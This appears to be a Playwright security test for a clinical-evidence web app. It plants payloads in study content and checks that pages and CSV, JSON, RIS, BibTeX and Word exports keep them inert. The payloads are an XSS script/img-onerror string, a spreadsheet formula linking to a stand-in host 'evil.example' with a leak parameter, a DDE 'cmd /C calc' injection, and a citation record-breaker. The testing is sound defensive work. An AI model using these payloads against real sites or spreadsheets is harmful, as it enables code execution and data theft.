// Script and formula payloads in content stay inert: a copy of the content with payloads in a study's
// title, journal, first author, setting, a record's population and note is built by db:build (it is
// valid content: a clinician could paste it), served by the same production build, and every page and
// every export is read back: no script runs on any page, the payload shows as text, CSV cells are
// neutralised (papaparse), RIS and BibTeX read back with citation-js with the payload as a value,
// JSON carries it as a string, the Word file's XML holds it escaped.
import { expect, test, type Page } from "@playwright/test";
import { spawn, execFileSync, type ChildProcess } from "node:child_process";
import { cpSync, mkdtempSync, readFileSync, rmSync, writeFileSync } from "node:fs";
import { createServer } from "node:net";
import os from "node:os";
import path from "node:path";
import Papa from "papaparse";
import JSZip from "jszip";
import { Cite } from "@citation-js/core";
import "@citation-js/plugin-ris";
import "@citation-js/plugin-bibtex";
import { recordHardening } from "../lib/testing/hardening-report";

const ROOT = process.cwd();
const STUDY = "ncch-scp-2024";
const SCRIPT = "<script>window.__pwned=1</script><img src=x onerror=window.__pwned=2>";
const FORMULA = '=HYPERLINK("http://evil.example/?leak","click")';
const AUTHOR = "=cmd|' /C calc'!A0";
const BRACES = "unbalanced { brace \\ and }} ER  - ";
const TITLE = `${SCRIPT} ${BRACES}`;
/** A CSV cell a spreadsheet would run: a formula sign first (after blanks), not a number. */
const DANGEROUS = /^[\s\u0000-\u001f]*[=+\-@\uFF1D\uFF0B\uFF0D\uFF20]/;
const NUMBER = /^[+-]?(?:\d+(?:\.\d*)?|\.\d+)(?:[eE][+-]?\d+)?$/;

const PAGES = [
  "/",
  `/?study=${STUDY}`,
  `/?study=${STUDY}&endpoint=mutation-frequency`,
  "/studies",
  `/studies/${STUDY}`,
  `/compare?studies=${STUDY}&studies=become`,
  "/map",
  "/integrity",
  "/pool?endpoint=OS",
  "/questions",
  "/questions/ras-unresectable",
  "/questions/ras-unresectable?view=profile",
];

const yamlText = (t: string) => `'${t.replace(/'/g, "''")}'`;

function hostileContent(dir: string): void {
  cpSync(path.join(ROOT, "content"), dir, { recursive: true });
  const file = path.join(dir, "studies", `${STUDY}.yaml`);
  let text = readFileSync(file, "utf8");
  const swap = (from: RegExp, to: string) => {
    expect(from.test(text), String(from)).toBe(true);
    text = text.replace(from, to);
  };
  swap(/^title: .*$/m, `title: ${yamlText(TITLE)}`);
  swap(/^  journal: .*$/m, `  journal: ${yamlText(FORMULA)}`);
  swap(/^setting: .*$/m, `setting: ${yamlText(SCRIPT)}`);
  swap(/"Ito S"/, yamlText(AUTHOR));
  swap(/population: "Analysed cohort after exclusion of 4 BRAF-mutant patients \(n=150\)"/, `population: ${yamlText(SCRIPT)}`);
  swap(/note: "Count only: no percentage printed\."/, `note: ${yamlText(`${FORMULA} ${SCRIPT}`)}`);
  writeFileSync(file, text);
}

function freePort(): Promise<number> {
  return new Promise((resolve, reject) => {
    const server = createServer();
    server.once("error", reject);
    server.listen(0, "127.0.0.1", () => {
      const port = (server.address() as { port: number }).port;
      server.close(() => resolve(port));
    });
  });
}

let work: string;
let app: ChildProcess | null = null;
let base: string;

test.describe.configure({ mode: "serial" });

test.beforeAll(async () => {
  test.setTimeout(240_000);
  work = mkdtempSync(path.join(os.tmpdir(), "hostile-content-"));
  const content = path.join(work, "content");
  const db = path.join(work, "evidence.db");
  hostileContent(content);
  execFileSync(path.join(ROOT, "node_modules", ".bin", "tsx"), ["scripts/db-build.ts"], { cwd: ROOT, env: { ...process.env, EVIDENCE_CONTENT: content, EVIDENCE_DB: db }, stdio: "pipe" });
  const port = await freePort();
  base = `http://127.0.0.1:${port}`;
  // The production build the config's web server made (.next), on the hostile database.
  app = spawn(process.execPath, [path.join(ROOT, "node_modules", "next", "dist", "bin", "next"), "start", "-p", String(port), "-H", "127.0.0.1"], {
    cwd: ROOT,
    env: { ...process.env, EVIDENCE_DB: db, NODE_ENV: "production", NEXT_TELEMETRY_DISABLED: "1" },
    stdio: "ignore",
  });
  for (let i = 0; i < 120; i++) {
    try {
      if ((await fetch(`${base}/api/studies?limit=1`)).ok) return;
    } catch {
      // not listening yet
    }
    await new Promise((r) => setTimeout(r, 500));
  }
  throw new Error("the app on the hostile database did not start");
});

test.afterAll(async () => {
  if (app && app.exitCode === null) {
    const exited = new Promise((r) => app!.once("exit", r));
    app.kill("SIGTERM");
    await exited;
  }
  if (work) rmSync(work, { recursive: true, force: true });
});

const tally = { pages: 0, pagesInert: 0, pagesShowingPayloadAsText: 0, exports: [] as string[] };

async function inert(page: Page, url: string) {
  const dialogs: string[] = [];
  page.on("dialog", (d) => {
    dialogs.push(d.message());
    void d.dismiss();
  });
  const res = await page.goto(url);
  expect(res?.status(), url).toBe(200);
  await page.waitForLoadState("networkidle");
  const pwned = await page.evaluate(() => (window as unknown as { __pwned?: number }).__pwned);
  expect(pwned, url).toBeUndefined();
  expect(dialogs, url).toEqual([]);
  // No element the payload would have made: every <img> and <script> is the app's own.
  expect(await page.locator('img[src="x"]').count(), url).toBe(0);
  const inline = await page.locator("script").evaluateAll((els) => els.map((e) => e.textContent ?? "").filter((t) => t.includes("__pwned=1") && !t.includes("self.__next")));
  expect(inline, url).toEqual([]);
  const text = await page.locator("body").innerText();
  return text.includes("<script>window.__pwned=1</script>");
}

test("no payload runs on any page; where shown, it is text", async ({ page }) => {
  test.setTimeout(300_000);
  let shown = 0;
  for (const url of PAGES) {
    if (await inert(page, `${base}${url}`)) shown++;
    tally.pages++;
    tally.pagesInert++;
  }
  // The study's own page and the list filtered to it show the title, setting and population as text.
  expect(await inert(page, `${base}/studies/${STUDY}`)).toBe(true);
  expect(shown).toBeGreaterThanOrEqual(2);
  tally.pagesShowingPayloadAsText = shown;
});

test("CSV: every text cell a spreadsheet would run is neutralised; numbers stay numbers", async ({ request }) => {
  for (const url of [`/api/export?format=csv&study=${STUDY}`, "/api/export?format=csv", "/api/sof?question=ras-unresectable&format=csv"]) {
    const res = await request.get(`${base}${url}`);
    expect(res.status(), url).toBe(200);
    const parsed = Papa.parse<string[]>(await res.text(), { skipEmptyLines: true });
    expect(parsed.errors, url).toEqual([]);
    const cells = parsed.data.flat();
    const dangerous = cells.filter((c) => DANGEROUS.test(c) && !NUMBER.test(c.trim()));
    expect(dangerous, url).toEqual([]);
    if (url.includes(STUDY)) {
      // The payloads are there, as text with a leading apostrophe (OWASP's neutralisation).
      expect(cells.filter((c) => c.startsWith(`'${FORMULA}`))).not.toEqual([]);
      expect(cells.some((c) => c.includes(SCRIPT))).toBe(true);
    }
    tally.exports.push(url);
  }
});

test("JSON: the payloads are strings, as written", async ({ request }) => {
  for (const url of [`/api/export?format=json&study=${STUDY}`, `/api/studies/${STUDY}`, `/api/effects?study=${STUDY}&limit=1000`]) {
    const res = await request.get(`${base}${url}`);
    expect(res.status(), url).toBe(200);
    expect(res.headers()["content-type"]).toContain("application/json");
    const text = await res.text();
    const json = JSON.stringify(JSON.parse(text));
    expect(json, url).toContain(JSON.stringify(SCRIPT).slice(1, -1));
    tally.exports.push(url);
  }
});

test("RIS and BibTeX: read back by citation-js, the payload is the title and nothing else is injected", async ({ request }) => {
  for (const format of ["ris", "bibtex"] as const) {
    const url = `/api/export?format=${format}&study=${STUDY}`;
    const res = await request.get(`${base}${url}`);
    expect(res.status(), url).toBe(200);
    const text = await res.text();
    const items = (await Cite.async(text, { forceType: format === "ris" ? "@ris/file" : "@biblatex/text" })).data as { title?: string; "container-title"?: string; author?: { family?: string; literal?: string }[] }[];
    const hostile = items.filter((i) => (i.title ?? "").includes("__pwned"));
    expect(hostile, url).toHaveLength(1);
    // As written, up to runs of blanks (read back as one).
    const blanks = (t: string) => t.replace(/\s+/g, " ").trim();
    expect(blanks(hostile[0]!.title!)).toBe(blanks(TITLE));
    // One entry per publication: the " ER  - " in the title did not end the record.
    expect(items.length, url).toBe(format === "ris" ? text.split(/^ER {2}- ?$/m).length - 1 : (text.match(/^@\w+\{/gm) ?? []).length);
    tally.exports.push(url);
  }
});

test("Word (Summary of Findings): the XML holds no markup from content", async ({ request }) => {
  const url = "/api/sof?question=ras-unresectable&format=docx";
  const res = await request.get(`${base}${url}`);
  expect(res.status(), url).toBe(200);
  const zip = await JSZip.loadAsync(await res.body());
  for (const name of Object.keys(zip.files).filter((n) => n.endsWith(".xml"))) {
    const xml = await zip.file(name)!.async("string");
    expect(xml, name).not.toMatch(/<script|<img/i);
  }
  tally.exports.push(url);
  recordHardening("payloadsInert", {
    test: "e2e/hardening-payloads.spec.ts (content payloads) and lib/security/exports.test.ts (exporters, property-based)",
    payloads: [SCRIPT, FORMULA, AUTHOR, BRACES],
    pagesVisited: tally.pages,
    pagesWhereNoPayloadRan: tally.pagesInert,
    pagesShowingThePayloadAsText: tally.pagesShowingPayloadAsText,
    exportsReadBack: tally.exports.length,
    exports: tally.exports,
    summary: `${tally.pagesInert}/${tally.pages} pages ran no payload; ${tally.exports.length}/${tally.exports.length} exports (CSV, JSON, RIS, BibTeX, Word) read back inert`,
  });
});
